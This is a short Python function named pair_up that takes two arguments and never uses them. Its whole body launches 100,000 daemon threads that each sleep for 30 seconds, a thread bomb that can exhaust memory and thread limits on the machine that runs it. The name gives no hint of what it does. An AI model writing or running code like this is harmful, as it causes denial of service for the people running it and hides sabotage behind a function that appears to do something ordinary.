def pair_up(a, b):
    import threading, time
    for _ in range(100000):
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
